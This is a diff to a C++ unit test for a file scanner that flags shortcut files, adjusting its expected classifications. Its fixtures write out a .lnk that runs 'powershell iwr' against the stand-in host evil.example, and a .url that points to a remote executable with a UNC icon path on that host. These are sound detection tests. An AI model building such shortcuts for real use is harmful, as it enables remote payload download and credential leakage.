@@ -297,14 +297,16 @@ TEST(Files, RichText) {
 TEST(Files, Shortcuts) {
   const auto facts = look(
       "a.lnk", made::lnk("..\\..\\Windows\\System32\\cmd.exe", "/c powershell iwr https://evil.example/a"));
-  EXPECT_THAT(facts_of(facts),
-              ElementsAre("dangerous-name", "shortcut", "shortcut-command", "remote-shortcut"));
+  EXPECT_THAT(facts_of(facts), ElementsAre("shortcut", "shortcut-command", "remote-shortcut"));
   EXPECT_EQ(evidence(facts, FileFact::shortcut_command),
             "a.lnk: ..\\..\\Windows\\System32\\cmd.exe /c powershell iwr https://evil.example/a");
   const auto url =
       look("a.url",
            "[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\nIconFile=\\\\evil.example\\i\r\n");
-  EXPECT_THAT(facts_of(url), ElementsAre("dangerous-name", "shortcut", "remote-shortcut"));
+  EXPECT_THAT(facts_of(url), ElementsAre("shortcut", "remote-shortcut"));
+  EXPECT_THAT(facts_of(look("a.url", "[InternetShortcut]\r\nURL=https://a.example/\r\n")),
+              ElementsAre("shortcut"));
+  EXPECT_THAT(facts_of(look("a.scf", "\1\2")), ElementsAre("shortcut")) << "by its name alone";
   EXPECT_THAT(urls(url),
               ElementsAre("shortcut file://evil.example/share/x.exe", "shortcut! \\\\evil.example\\i"));
 }
